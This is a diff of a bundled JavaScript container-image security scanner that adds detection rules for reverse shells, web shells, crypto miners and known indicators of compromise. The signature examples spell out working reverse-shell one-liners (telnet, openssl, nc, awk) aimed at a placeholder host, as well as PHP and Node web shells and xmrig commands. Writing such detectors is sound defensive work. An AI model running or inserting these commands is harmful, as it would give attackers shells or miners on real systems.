@@ -19610,8 +19610,8 @@ var require_dns = __commonJS({
         }
         this.#records.set(origin.hostname, records);
       }
-      getHandler(meta42, opts) {
-        return new DNSDispatchHandler(this, meta42, opts);
+      getHandler(meta43, opts) {
+        return new DNSDispatchHandler(this, meta43, opts);
       }
     };
     var DNSDispatchHandler = class extends DecoratorHandler {
@@ -26118,7 +26118,7 @@ var require_eventsource_stream = __commonJS({
     var COLON2 = 58;
     var SPACE = 32;
     var defaultMaxEventSize = buffer.kStringMaxLength;
-    var DATA2 = Buffer.from("data");
+    var DATA3 = Buffer.from("data");
     var EVENT = Buffer.from("event");
     var ID = Buffer.from("id");
     var RETRY = Buffer.from("retry");
@@ -26312,7 +26312,7 @@ var require_eventsource_stream = __commonJS({
             ++valueStart;
           }
         }
-        if (isFieldName(line2, fieldLength, DATA2)) {
+        if (isFieldName(line2, fieldLength, DATA3)) {
           if (this.maxEventSize > 0 && this.dataLineCount >= this.maxDataLines) {
             throw createMaxEventSizeExceededError();
           }
@@ -31778,6 +31778,7 @@ var OPTIONS = {
     value: "DIR",
     help: "a new or empty folder; - for standard output: the bytes of one file, of several a tar"
   },
+  ioc: { value: "FILE", help: "indicators of an attack: hashes, names, domains, addresses, URLs, one a line" },
   verify: { value: "DIR", help: "says what of a case is missing, was changed or added" },
   "show-secrets": { value: null, help: "prints the bytes as they are; refused in a workflow" },
   github: {
@@ -35648,10 +35649,10 @@ var $ZodRegistry = class {
     this._idmap = /* @__PURE__ */ new Map();
   }
   add(schema, ..._meta) {
-    const meta42 = _meta[0];
-    this._map.set(schema, meta42);
-    if (meta42 && typeof meta42 === "object" && "id" in meta42) {
-      this._idmap.set(meta42.id, schema);
+    const meta43 = _meta[0];
+    this._map.set(schema, meta43);
+    if (meta43 && typeof meta43 === "object" && "id" in meta43) {
+      this._idmap.set(meta43.id, schema);
     }
     return this;
   }
@@ -35661,9 +35662,9 @@ var $ZodRegistry = class {
     return this;
   }
   remove(schema) {
-    const meta42 = this._map.get(schema);
-    if (meta42 && typeof meta42 === "object" && "id" in meta42) {
-      this._idmap.delete(meta42.id);
+    const meta43 = this._map.get(schema);
+    if (meta43 && typeof meta43 === "object" && "id" in meta43) {
+      this._idmap.delete(meta43.id);
     }
     this._map.delete(schema);
     return this;
@@ -36284,9 +36285,9 @@ function processSchema(schema, ctx, _params = { path: [], schemaPath: [] }) {
       ctx.seen.get(parent).isParent = true;
     }
   }
-  const meta42 = ctx.metadataRegistry.get(schema);
-  if (meta42)
-    assignProps(result.schema, meta42);
+  const meta43 = ctx.metadataRegistry.get(schema);
+  if (meta43)
+    assignProps(result.schema, meta43);
   if (ctx.io === "input" && isTransforming(schema)) {
     delete result.schema.examples;
     delete result.schema.default;
@@ -37412,8 +37413,8 @@ var ZodType = /* @__PURE__ */ $constructor("ZodType", (inst, def) => {
   brand() {
     return this;
   },
-  register(reg, meta42) {
-    reg.add(this, meta42);
+  register(reg, meta43) {
+    reg.add(this, meta43);
     return this;
   },
   refine(check2, params) {
@@ -41317,10 +41318,10 @@ function matchesReference(pattern, image) {
 }
 
 // src/rules/placed.ts
-function placed(meta42, { title = meta42.title, severity = meta42.severity, confidence = meta42.confidence, related = [], ...own2 }) {
+function placed(meta43, { title = meta43.title, severity = meta43.severity, confidence = meta43.confidence, related = [], ...own2 }) {
   const { identity, ...rest } = own2;
   const finding = {
-    ruleId: meta42.id,
+    ruleId: meta43.id,
     title,
     severity,
     confidence,
@@ -41331,13 +41332,13 @@ function placed(meta42, { title = meta42.title, severity = meta42.severity, conf
     ...rest
   };
   return {
-    places: [{ ruleId: meta42.id, location: rest.location, origin: rest.origin, dockerfile: rest.dockerfile, identity }],
+    places: [{ ruleId: meta43.id, location: rest.location, origin: rest.origin, dockerfile: rest.dockerfile, identity }],
     seenFrom: () => finding,
     hashOf: null
   };
 }
-var onStep = (meta42, step2, own2) => placed(meta42, { ...own2, location: step2.location, dockerfile: step2.lines, origin: step2.owner });
-var onCommand = (meta42, step2, { position, end: end2 }, own2) => placed(meta42, { ...own2, location: step2.location, dockerfile: step2.linesAt(position, end2), origin: step2.owner });
+var onStep = (meta43, step2, own2) => placed(meta43, { ...own2, location: step2.location, dockerfile: step2.lines, origin: step2.owner });
+var onCommand = (meta43, step2, { position, end: end2 }, own2) => placed(meta43, { ...own2, location: step2.location, dockerfile: step2.linesAt(position, end2), origin: step2.owner });
 
 // src/rules/rule.ts
 var CIS = "https://www.cisecurity.org/benchmark/docker";
@@ -41622,7 +41623,7 @@ var PLACEHOLDER = new RegExp(
   ].join("|"),
   "i"
 );
-var USUAL_PASSWORD = /^(?:(?:an?|my|our|some|the|your)[-_ ])?(?:p[a@]ss(?:w[o0]rd|wd|w)?|pwd|pw|secret|user(?:name)?|admin|root|guest|test|postgres|mysql|redis|mongo|rabbitmq|changeme|p|x+|\*+|\.+|foo|bar|baz|12345?6?7?8?|qwerty|default|oauth2?|x-oauth-basic|token|key|login|credentials?|my[-_]?pass(?:word)?|some[-_]?pass(?:word)?|db_?pass(?:word)?)\d{0,3}$/i;
+var USUAL_PASSWORD = /^(?:(?:an?|my|our|some|the|your)[-_ ])?(?:p[a@]ss(?:w[o0]rd|wd|w)?|pwd|pw|s[e3]cr[e3]t|user(?:name)?|adm[i1]n|root|guest|t[e3]st|postgres|mysql|redis|mongo|rabbitmq|changeme|p|x+|\*+|\.+|foo|bar|baz|12345?6?7?8?|qwerty|default|oauth2?|x-oauth-basic|token|key|login|credentials?|my[-_]?pass(?:word)?|some[-_]?pass(?:word)?|db_?pass(?:word)?)\d{0,3}$/i;
 var isUsualPassword = (password) => USUAL_PASSWORD.test(password);
 var REFERENCE = /^\$[A-Za-z_({]|\$\{[\w.:?+=/ -]{0,80}(?:\}|$)|\$\([^()]{0,80}(?:\)|$)|\{\{[^{}]{0,80}(?:\}\}|$)|^%[A-Za-z_]+%$|^%[sdv(]|^<[^>]*>$|^@[A-Za-z_.-]+@?$|^\{[^}]*\}$|^ENC[[(]|^vault:|^ssm:|^arn:|^secret:|^env[:.]|^file:|^[{[]|\\\(|#\{[^{}]{0,80}(?:\}|$)|%\(\w{0,80}(?:\)|$)|<%/;
 var FILLED_IN = /example|sample|dummy|testing|test|fake|mock|foo(?:bar)?|bar|baz|lorem|ipsum|hunter2|letmein|qwerty\w{0,4}|asdf(?:gh)?\w{0,3}|change(?:[-_ ]?(?:me|it|this))?|replace|place[-_ ]?holder|insert|enter|redacted|default|secret|pass(?:w(?:or)?d|wd)?|p[a@][s$]{2}w[o0]rd|pwd|token|value|string|key|admin|root|user(?:name)?|your|our|my|the|some|this|here|with|not|real|valid|invalid|deadbeef|cafebabe|abc(?:def\w{0,3})?|xyz|12345(?:6(?:7(?:8(?:90?)?)?)?)?|1234|0123(?:4567\w{0,3})?|87654321|\d{4}(?!\d)|(.)\1{3,}/gi;
@@ -42809,11 +42810,11 @@ function phrasesOf(text5, value) {
 }
 var hiddenInCommands = (steps) => steps.flatMap(
   ({ commands }) => commands.flatMap((command2) => {
-    const texts2 = [command2, ...command2.fedBy].flatMap(({ text: text5, input: input2 }) => [text5, ...input2 === null ? [] : [input2]]);
+    const texts3 = [command2, ...command2.fedBy].flatMap(({ text: text5, input: input2 }) => [text5, ...input2 === null ? [] : [input2]]);
     return [...credentialsOf(command2).flatMap(({ hidden }) => hidden), ...passwordTexts(command2)].map((value) => ({
       value,
       guessable: true,
-      after: texts2.flatMap((text5) => wordsBefore(text5, value))
+      after: texts3.flatMap((text5) => wordsBefore(text5, value))
     }));
   })
 );
@@ -50985,10 +50986,10 @@ function grantedBy(command2) {
   const { operands } = optionsIn(command2);
   const targets = name2 === "tee" || name2 === "sed" ? operands.map(({ value }) => value) : name2 === "visudo" ? ["/etc/sudoers"] : writes;
   if (!targets.some((path19) => /\/sudoers(?:\.d\/|$)|\/doas(?:\.conf|\.d\/)/.test(path19))) return null;
-  const texts2 = [...args, ...fedBy.flatMap((feeder) => [...feeder.args])].map(({ value }) => value);
+  const texts3 = [...args, ...fedBy.flatMap((feeder) => [...feeder.args])].map(({ value }) => value);
   if (name2 === "sed")
-    return texts2.map((text5) => text5.replace(/^s(.)(?:(?!\1).)*\1((?:(?!\1).)*)\1.*$/s, "$2")).find(grants) ?? null;
-  const all2 = [texts2.join(" "), input2 ?? "", ...fedBy.map((feeder) => feeder.input ?? "")];
+    return texts3.map((text5) => text5.replace(/^s(.)(?:(?!\1).)*\1((?:(?!\1).)*)\1.*$/s, "$2")).find(grants) ?? null;
+  const all2 = [texts3.join(" "), input2 ?? "", ...fedBy.map((feeder) => feeder.input ?? "")];
   return all2.find(grants) ?? null;
 }
 var sudoWithoutPassword = {
@@ -52220,10 +52221,12 @@ var updateWithoutInstall = {
 
 // src/rules/compromise/file-finding.ts
 var DOCUMENTATION = /^\/usr\/(?:local\/)?share\/(?:doc|man|info|vim|nano|highlight|bash-completion|licenses)\/|\/(?:docs?|man)\/|\.(?:md|mdx|rst|adoc|markdown|1|5|8|1\.gz|8\.gz|yar|yara|po|mo|map|d\.ts|ipynb)$|\/(?:README|CHANGE|NEWS|HISTORY)[^/]*$/i;
-var isDocumentation = (path19) => DOCUMENTATION.test(path19);
-function onVersion(meta42, { origin }, { path: path19, layer }, { line: line2 = null, inside = null, ...own2 }) {
+var INSTALLED = /\/(?:site-packages|dist-packages|node_modules|gems|vendor)\//;
+var DATA = /\.(?:ya?ml|json|jsonl|txt|csv|tsv|xml|html?|toml|ini|cfg|rules|tmpl|snap|svg|css|dat|pickle|parquet)$/i;
+var isDocumentation = (path19) => DOCUMENTATION.test(path19) || INSTALLED.test(path19) && DATA.test(path19);
+function onVersion(meta43, { origin }, { path: path19, layer }, { line: line2 = null, inside = null, ...own2 }) {
   const from = origin.layers[layer];
-  return placed(meta42, {
+  return placed(meta43, {
     ...own2,
     location: { kind: "layer", layer, path: path19, ...inside === null ? {} : { inside }, line: line2, offset: null },
     dockerfile: from?.lines ?? null,
@@ -52275,7 +52278,7 @@ var authorizedKeys = {
 var meta22 = {
   id: "binary-replaced",
   title: "A program of the system is another one now",
-  description: "COPY or ADD writes a program over one that a lower layer has in a directory of the system.",
+  description: "An instruction that calls no package manager writes a program over one that a lower layer has in a directory of the system.",
   remedy: "Put your own programs into /usr/local/bin or a directory of their own.",
   severity: "medium",
   confidence: "medium",
@@ -52284,7 +52287,14 @@ var meta22 = {
   enabled: true,
   strict: "high"
 };
+var HANDWORK = /^(?:cp|mv|install|chmod|chown|chgrp|touch|rm|mkdir|cat|echo|printf|true|test|\[|cd|set|export|dd|tee|base64|xxd|curl|wget|sha256sum|ls|strip|sed|head|tail|sleep|sync)?$/;
 var SYSTEM = /^\/(?:usr\/)?(?:s?bin|lib\w{0,4})\/(?:[^/]+\/){0,2}[^/]+$/;
+function mayInstall({ steps }, layer) {
+  const made = steps.filter((step2) => step2.layer === layer);
+  return made.length === 0 || made.some(
+    ({ commands, unread }) => unread !== null || commands.length === 0 || !commands.every(({ name: name2 }) => HANDWORK.test(name2))
+  );
+}
 var binaryReplaced = {
   meta: meta22,
   *check(evidence) {
@@ -52297,9 +52307,12 @@ var binaryReplaced = {
         if (kinds[layer]?.get(index) === void 0 || kinds[successor.layer]?.get(successor.index) === void 0)
           continue;
         const from = origin.layers[successor.layer];
-        if (from?.owner === "base" || !/^(?:COPY|ADD)$/.test(from?.instruction?.keyword ?? "")) continue;
+        const keyword = from?.instruction?.keyword ?? "";
+        if (from?.owner === "base" || !/^(?:COPY|ADD|RUN)$/.test(keyword)) continue;
+        if (keyword === "RUN" && mayInstall(evidence, successor.layer)) continue;
+        if (evidence.isVouched(successor.layer, path19)) continue;
         yield onVersion(meta22, evidence, successor, {
-          message: `${path19} came with layer ${layer}; ${from?.instruction?.keyword} in layer ${successor.layer} put another program in its place. Whoever calls it by its name runs that.`,
+          message: `${path19} came with layer ${layer}; ${keyword} in layer ${successor.layer} put another program in its place. Whoever calls it by its name runs that.`,
           remedy: `Put it into /usr/local/bin under its own name. If it must be there, install it as a package, so that its checksum is on record.`,
           identity: ["replaced"]
         });
@@ -52381,6 +52394,26 @@ var REVERSE_SHELLS = [
       "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | sh | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s"
     ],
     quiet: ["mkfifo /run/log.pipe && tail -f /run/log.pipe | sh /filter.sh"]
+  }),
+  sign("reverse-shell", "pipes", {
+    how: "a shell stands between two connections",
+    literals: ["|/bin/sh", "| /bin/sh", "|/bin/bash", "| /bin/bash", "| sh ", "| bash ", "|sh|", "|bash|"],
+    pattern: /(?<=(?<![\w.-])(?:nc|ncat|netcat|telnet|openssl\s+s_client)\s[^\n;|&]{2,80})\|\s{0,3}(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|a)?sh\b(?:[^\n|;]{0,40}\|\s{0,3}(?:nc|ncat|netcat|telnet|openssl\s+s_client)\b|\s{0,3}1?>\s{0,3}[\w./-]{1,40})/y,
+    examples: [
+      "telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445",
+      "openssl s_client -quiet -connect 203.0.113.9:443 | /bin/bash 2>&1 | openssl s_client -quiet -connect 203.0.113.9:444",
+      "mknod backpipe p && nc 203.0.113.9 443 0<backpipe | /bin/bash 1>backpipe"
+    ],
+    quiet: ["echo quit | openssl s_client -connect db:443 | sh parse.sh", "nc -z db 5432 || sh wait.sh"]
+  }),
+  sign("reverse-shell", "awk", {
+    how: "awk runs what a connection sends",
+    literals: ["/inet/tcp/0/"],
+    pattern: /\/inet\/tcp\/0\/[^"'\s]{3,80}["'][\s\S]{0,300}?(?:\|&\s{0,3}getline|system\()/y,
+    examples: [
+      `awk 'BEGIN {s = "/inet/tcp/0/203.0.113.9/4444"; while(1) { do { printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print $0 |& s } while(c != "exit") }}'`
+    ],
+    quiet: ['service = "/inet/tcp/0/localhost/25"']
   }),
   sign("reverse-shell", "python", {
     how: "Python ties a shell to a socket",
@@ -52480,6 +52513,20 @@ var WEB_SHELLS = [
       '<?php Loader::system($_GET["x"]);'
     ]
   }),
+  sign("web-shell", "php-backtick", {
+    how: "PHP runs what a request sends",
+    literals: ["$_GET", "$_POST", "$_REQUEST", "$_COOKIE"],
+    pattern: /(?<=(?:echo|print|=|<\?=|\()\s{0,3}`[^`\n]{0,40}\{?)\$_(?:GET|POST|REQUEST|COOKIE)\b[^`\n]{0,60}`/y,
+    examples: ["<?php echo `$_GET[c]`; ?>", "<?= `{$_REQUEST['c']}` ?>"],
+    quiet: ["<?php // reads `$_GET[c]` of the page", "SELECT `a` = $_GET[b]"]
+  }),
+  sign("web-shell", "node", {
+    how: "Node.js runs what a request sends",
+    literals: ["req.query", "req.body", "req.params", "request.query", "request.body"],
+    pattern: /(?<=(?<![\w.])(?:(?:child_process|cp)\.)?(?:exec|execSync|spawn|spawnSync|eval)\(\s{0,3})(?:req|request)\.(?:query|body|params)\b/y,
+    examples: ["exec(req.query.cmd, done)", "eval(req.body.code)"],
+    quiet: ["pattern.exec(req.query.q)", "const q = req.query.q"]
+  }),
   sign("web-shell", "php-call", {
     how: "PHP calls the function that a request names",
     literals: ["$_GET", "$_POST", "$_REQUEST", "$_COOKIE"],
@@ -52548,8 +52595,17 @@ var POOLS = [
 var MINERS = [
   sign("crypto-miner", "stratum", {
     how: "it talks to a mining pool (stratum)",
-    literals: ["stratum+tcp://", "stratum+ssl://", "stratum+tls://", "stratum2+tcp://", "stratum+udp://"],
-    pattern: /stratum2?\+(?:tcp|ssl|tls|udp):\/\/(?!(?:example|your|pool\.example|host|server)\b)[A-Za-z0-9][A-Za-z0-9.-]{2,80}(?::\d{2,5})/y,
+    literals: [
+      "stratum+tcp://",
+      "stratum+ssl://",
+      "stratum+tls://",
+      "stratum+udp://",
+      "stratum1+tcp://",
+      "stratum1+ssl://",
+      "stratum2+tcp://",
+      "stratum2+ssl://"
+    ],
+    pattern: /stratum[12]?\+(?:tcp|ssl|tls|udp):\/\/(?!(?:example|your|pool\.example|host|server)\b)[A-Za-z0-9][A-Za-z0-9.-]{2,80}(?::\d{2,5})/y,
     examples: ["xmrig -o stratum+tcp://pool.acme.io:3333 -u x", '"url": "stratum+ssl://203.0.113.9:443"'],
     quiet: ["stratum+tcp://%s:%d", "stratum+tcp://example.com:3333", "supports stratum+tcp:// and stratum+ssl://"]
   }),
@@ -52559,6 +52615,13 @@ var MINERS = [
     pattern: /(?:pool\.minexmr\.com|xmrpool\.eu|supportxmr\.com|nanopool\.org|2miners\.com|moneroocean\.stream|hashvault\.pro|c3pool\.(?:com|org)|minergate\.com|unmineable\.com|herominers\.com|monerohash\.com|kryptex\.network):\d{2,5}(?!\d)/y,
     examples: ["-o xmr-eu1.nanopool.org:14444", "gulf.moneroocean.stream:10128"],
     quiet: ["https://nanopool.org/help", "0.0.0.0 xmrpool.eu"]
+  }),
+  sign("crypto-miner", "algorithm", {
+    how: "it starts a miner",
+    literals: ["cryptonight", "randomx", "rx/0", "ethash", "kawpow", "autolykos2"],
+    pattern: /(?<=(?:\s-a|\s--algo(?:rithm)?)[\s=]{1,3}|"algo"\s{0,3}:\s{0,3}")(?:cryptonight|randomx|rx\/0|ethash|kawpow|autolykos2)\b/y,
+    examples: ["minerd -a cryptonight -o pool.acme.io:3333", '{"algo": "rx/0", "coin": "monero"}'],
+    quiet: ["the algorithms cryptonight and randomx", "ethash --verify"]
   }),
   sign("crypto-miner", "xmrig", {
     how: "it is XMRig, or set up for it",
@@ -52615,35 +52678,38 @@ function indicatorsIn(text5) {
 
 // src/rules/compromise/signs.ts
 var RUNS = /^(?:RUN|CMD|ENTRYPOINT|HEALTHCHECK|ONBUILD|SHELL|ENV)$/;
-function* inSteps(meta42, { steps }, remedy) {
+function* inSteps(meta43, { steps }, remedy) {
   for (const step2 of steps) {
     if (step2.of !== "image" || !RUNS.test(step2.keyword ?? "")) continue;
-    const [first2] = indicatorsIn(step2.text).filter(({ detector }) => ruleOfIndicator(detector.id) === meta42.id);
+    const [first2] = indicatorsIn(step2.text).filter(({ detector }) => ruleOfIndicator(detector.id) === meta43.id);
     if (first2 === void 0) continue;
-    yield onStep(meta42, step2, {
+    yield onStep(meta43, step2, {
       message: `${step2.keyword}: ${first2.detector.title}.`,
       remedy,
       identity: [first2.detector.id, step2.keyword ?? ""]
     });
   }
 }
-function* inFiles(meta42, evidence, { isMeant, remedy, hiddenSeverity = "medium" }) {
+function* inFiles(meta43, evidence, { isMeant, remedy, hiddenSeverity = "medium" }) {
   const { built } = evidence;
   if (built === null) return;
   for (const [layer, { indicators }] of evidence.layers.entries()) {
     const byEntry = /* @__PURE__ */ new Map();
     for (const each2 of indicators)
-      if (ruleOfIndicator(each2.detector) === meta42.id)
+      if (ruleOfIndicator(each2.detector) === meta43.id)
         byEntry.set(each2.entry, [...byEntry.get(each2.entry) ?? [], each2]);
     for (const [entry, found] of byEntry) {
       const version2 = built.filesystem.versionOf(layer, entry);
-      const inner = found.filter(({ inside }) => !isDocumentation(inside === null ? version2.path : `/${inside}`));
+      const inner = found.filter(({ inside, detector }) => {
+        const name2 = inside === null ? version2.path : `/${inside.split("!/").at(-1)}`;
+        return !isDocumentation(name2) && isMeant(version2, detector, name2);
+      });
       const [first2] = inner;
-      if (first2 === void 0 || isDocumentation(version2.path) || !isMeant(version2)) continue;
+      if (first2 === void 0 || isDocumentation(version2.path)) continue;
       if (built.isVouched(layer, version2.path)) continue;
       const says = [...new Set(inner.map(({ detector }) => indicatorOf(detector)?.title ?? detector))];
       const { ending: ending2 } = version2;
-      yield onVersion(meta42, evidence, version2, {
+      yield onVersion(meta43, evidence, version2, {
         message: `${version2.path}${first2.inside === null ? "" : `!/${first2.inside}`}${first2.line === null ? "" : `, line ${first2.line}`}: ${says.join("; ")}.${ending2 === null ? "" : ` Layer ${ending2.layer} hides it; the bytes stay in layer ${layer}.`}`,
         remedy,
         identity: [...new Set(inner.map(({ detector }) => detector))].sort(),
@@ -52829,12 +52895,15 @@ var SHELL = /^(?:ba|da|z|k|a|tc|c|fi)?sh(?:-\d.*)?$|^busybox/;
 var SYSTEM2 = /^\/(?:bin|sbin|lib\w*|usr|etc|opt|var|dev|run|boot|srv)\//;
 var USUAL_DOTS = /\/\.(?:build-id|venv\w*|cache|local|npm|nvm|cargo|rustup|git|bin|pnpm\w*|dotnet|nuget|gem|bundle|pyenv|rbenv|sdkman|vscode\w*|config|yarn\w*|libs|dylibs|m2|gradle|conda|deno|bun|mix|hex|asdf|volta|poetry|pipx|uv|steam|wine|julia|opam|ghcup|cabal|stack|swiftpm|jenv|tfenv|krew|helm|docker|kube|terraform\.d|store|linuxbrew|linkerd2|fnm|next|nuxt|output|netlify|vercel|husky|node-gyp|electron|playwright|puppeteer|cypress|modules?)(?:\/|$)/;
 var UNSEEN = /[\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u00ad]/u;
+var PROGRAMS2 = /^\/(?:usr\/)?(?:local\/)?s?bin\/[^/]+$/;
 var OPEN = /^\/(?:tmp|var\/tmp|dev\/shm|dev|run\/shm)\//;
 function oddity({ path: path19, entry }, kind) {
   const name2 = baseName(path19);
   if ((entry.mode & 2048) !== 0 && (kind === "bash" || kind === "busybox" || SHELL.test(name2)) && (entry.mode & 73) !== 0)
     return kind === "busybox" && name2 === "busybox" ? null : { says: "is a shell with the setuid bit: whoever starts it is its owner", severity: "critical" };
   if (kind === null) return null;
+  if (PROGRAMS2.test(path19) && /[^\x20-\x7e]/.test(name2))
+    return { says: "has letters in its name that read like others", severity: "high" };
   if (UNSEEN.test(path19)) return { says: "has characters in its name that nobody sees", severity: "high" };
   if (/^\.{3,}$|^\s|\s$/.test(name2) || /\/(?:\.{3,}|\s[^/]*|[^/]*\s)\//.test(path19))
     return { says: "has a name that reads like nothing", severity: "high" };
@@ -52864,8 +52933,67 @@ var hiddenExecutable = {
   }
 };
 
-// src/rules/compromise/loader-preload.ts
+// src/rules/compromise/known-indicator.ts
 var meta27 = {
+  id: "known-indicator",
+  title: "A known indicator of compromise",
+  description: "The image holds a hash, name, domain, address or URL of the list that --ioc names.",
+  remedy: "Take the image out of use, find out who brought it, and rebuild from a source that you trust.",
+  severity: "critical",
+  confidence: "high",
+  kind: "rule",
+  references: [REFERENCES.attackTransfer],
+  enabled: true
+};
+var REMEDY2 = "Take the image out of use, and find out who brought it: layergate timeline IMAGE, layergate recover IMAGE PATH --to DIR.";
+var SIGN = "known-indicator:";
+function* texts(evidence) {
+  for (const [layer, { indicators }] of evidence.layers.entries())
+    for (const { detector, entry, line: line2, inside } of indicators)
+      if (detector.startsWith(SIGN))
+        yield { layer, entry, line: inside === null ? line2 : null, text: detector.slice(SIGN.length) };
+}
+var knownIndicator = {
+  meta: meta27,
+  *check(evidence) {
+    const { filesystem, iocs } = evidence;
+    for (const { layer, entry, line: line2, text: text5 } of texts(evidence)) {
+      const version2 = filesystem.versionOf(layer, entry);
+      yield onVersion(meta27, evidence, version2, {
+        message: `${version2.path}${line2 === null ? "" : `, line ${line2}`} names ${text5}, which the list of indicators has.`,
+        remedy: REMEDY2,
+        identity: [text5],
+        line: line2
+      });
+    }
+    if (iocs === null) return;
+    for (const step2 of evidence.steps) {
+      const text5 = step2.of === "image" ? iocs.texts.find((each2) => step2.text.toLowerCase().includes(each2.toLowerCase())) : void 0;
+      if (text5 !== void 0)
+        yield onStep(meta27, step2, {
+          message: `${step2.keyword} names ${text5}, which the list of indicators has.`,
+          remedy: REMEDY2,
+          identity: [text5]
+        });
+    }
+    for (const versions of filesystem.versions)
+      for (const version2 of versions) {
+        const { path: path19, entry } = version2;
+        if (entry.whiteout !== null || entry.type === "directory") continue;
+        const name2 = iocs.names.has(path19) ? path19 : iocs.names.has(baseName(path19)) ? baseName(path19) : null;
+        const hash3 = iocs.found.get(`${version2.layer}:${version2.index}`) ?? null;
+        if (name2 === null && hash3 === null) continue;
+        yield onVersion(meta27, evidence, version2, {
+          message: `${path19} ${hash3 === null ? `is called ${name2}` : `has the checksum ${hash3}`}, which the list of indicators has.`,
+          remedy: REMEDY2,
+          identity: [hash3 ?? name2 ?? ""]
+        });
+      }
+  }
+};
+
+// src/rules/compromise/loader-preload.ts
+var meta28 = {
   id: "loader-preload",
   title: "A library is loaded into every program",
   description: "/etc/ld.so.preload or LD_PRELOAD loads a library into every program: it sees and changes all that they do.",
@@ -52879,12 +53007,12 @@ var meta27 = {
 var FILE = "/etc/ld.so.preload";
 var USUAL = /(?:jemalloc|tcmalloc|mimalloc|snmalloc|hoard|faketime|eatmydata|nss_wrapper|fakeroot|fakechroot|gcompat|memusage|[atu]san|heaptrack|gomp|stdc\+\+|iconv|segfault|ddtrace|datadog|dd_|otel|newrelic|appdynamics|dynatrace|oneagent|libnuma|libcuda|libhugetlbfs|umem|proxychains|torsocks|stdbuf|libintl|libvips|libhoard)[\w.+-]{0,60}(?:\s|$|:)/i;
 var loaderPreload = {
-  meta: meta27,
+  meta: meta28,
   *check(evidence) {
     const file = collectedFile(evidence, FILE);
     const named3 = file?.text.split("\n").filter((line2) => /^\s*[^#\s]/.test(line2)) ?? [];
     if (file !== null && named3.length > 0 && !evidence.isVouched(file.version.layer, FILE))
-      yield onVersion(meta27, evidence, file.version, {
+      yield onVersion(meta28, evidence, file.version, {
         message: `${FILE} loads ${evidence.cut(named3.map((line2) => line2.trim()).join(", "), 100)} into every program of the image, set-uid ones too. No package writes this file.`,
         remedy: `Take ${FILE} out, and look at the library: layergate files IMAGE ${(named3[0] ?? "").trim()}.`,
         identity: [FILE]
@@ -52899,18 +53027,18 @@ var loaderPreload = {
         remedy: "Take it out, or set it for the one program that needs it.",
         identity: ["LD_PRELOAD", value]
       };
-      yield step2 === null ? placed(meta27, {
+      yield step2 === null ? placed(meta28, {
         ...finding,
         location: { kind: "config", field: "Env.LD_PRELOAD" },
         dockerfile: null,
         origin: "unknown"
-      }) : onStep(meta27, step2, finding);
+      }) : onStep(meta28, step2, finding);
     }
   }
 };
 
 // src/rules/compromise/packed-executable.ts
-var meta28 = {
+var meta29 = {
   id: "packed-executable",
   title: "A packed program",
   description: "A program of the image is packed with UPX: scanners see nothing of what it does.",
@@ -52923,9 +53051,9 @@ var meta28 = {
   strict: "medium"
 };
 var packedExecutable = {
-  meta: meta28,
+  meta: meta29,
   *check(evidence) {
-    yield* inFiles(meta28, evidence, {
+    yield* inFiles(meta29, evidence, {
       // UPX itself, and what only holds the text.
       isMeant: (version2) => evidence.layers[version2.layer]?.programs.some(
         ([entry, kind]) => entry === version2.index && (kind === "elf" || kind === "busybox" || kind === "bash")
@@ -53002,7 +53130,7 @@ function suspicionsIn(text5) {
 
 // src/rules/compromise/persistence.ts
 var CRON = /^\/etc\/(?:cron(?:tab|\.d\/[^/]+|\.(?:hourly|daily|weekly|monthly)\/[^/]+)|crontabs\/[^/]+|periodic\/[^/]+\/[^/]+)$|^\/var\/spool\/cron\/(?:crontabs\/)?[^/]+$/;
-var INIT = /^\/(?:etc|usr\/lib|lib)\/systemd\/system\/[^/]+\.(?:service|timer)$|^\/etc\/(?:rc\.local|rc\.d\/rc\.local|profile|profile\.d\/[^/]+|bash\.bashrc|init\.d\/[^/]+|local\.d\/[^/]+|supervisor\/conf\.d\/[^/]+)$|^\/(?:root|home\/[^/]+)\/\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile)$/;
+var INIT = /^\/(?:etc|usr\/lib|lib)\/systemd\/system\/[^/]+\.(?:service|timer)$|^\/etc\/(?:rc\.local|rc\.d\/rc\.local|profile|profile\.d\/[^/]+|bash\.bashrc|init\.d\/[^/]+|local\.d\/[^/]+|supervisor\/conf\.d\/[^/]+)$|^\/(?:root|home\/[^/]+)\/\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile)$|\/(?:site|dist)-packages\/(?:[^/]+\.pth|sitecustomize\.py|usercustomize\.py)$/;
 var metaOf = (id, title, description, reference) => ({
   id,
   title,
@@ -53014,15 +53142,15 @@ var metaOf = (id, title, description, reference) => ({
   references: [reference],
   enabled: true
 });
-var ruleOver = (meta42, paths) => ({
-  meta: meta42,
+var ruleOver = (meta43, paths) => ({
+  meta: meta43,
   *check(evidence) {
     for (const version2 of presentFiles(evidence)) {
       if (!paths.test(version2.path)) continue;
       const text5 = evidence.collected(version2.path);
       const why = text5 === null ? [] : suspicionsIn(text5);
       if (why.length === 0 || evidence.isVouched(version2.layer, version2.path)) continue;
-      yield onVersion(meta42, evidence, version2, {
+      yield onVersion(meta43, evidence, version2, {
         message: `${version2.path} runs by itself, and ${why.join("; ")}.`,
         remedy: `Take it out, and find out who brought it: layergate cat IMAGE ${version2.path}, layergate timeline IMAGE.`,
         identity: ["runs by itself"]
@@ -53050,7 +53178,7 @@ var initPersistence = ruleOver(
 );
 
 // src/rules/compromise/reverse-shell.ts
-var meta29 = {
+var meta30 = {
   id: "reverse-shell",
   title: "A reverse shell",
   description: "A command, script or job of the image hands a shell to a network connection.",
@@ -53061,17 +53189,17 @@ var meta29 = {
   references: [REFERENCES.attackShell, REFERENCES.attackProtocol],
   enabled: true
 };
-var REMEDY2 = "Take the image out of use, and find out who brought it: layergate timeline IMAGE, layergate recover IMAGE PATH --to DIR. Rebuild from a source that you trust.";
+var REMEDY3 = "Take the image out of use, and find out who brought it: layergate timeline IMAGE, layergate recover IMAGE PATH --to DIR. Rebuild from a source that you trust.";
 var reverseShell = {
-  meta: meta29,
+  meta: meta30,
   *check(evidence) {
-    yield* inSteps(meta29, evidence, REMEDY2);
-    yield* inFiles(meta29, evidence, { isMeant: () => true, remedy: REMEDY2 });
+    yield* inSteps(meta30, evidence, REMEDY3);
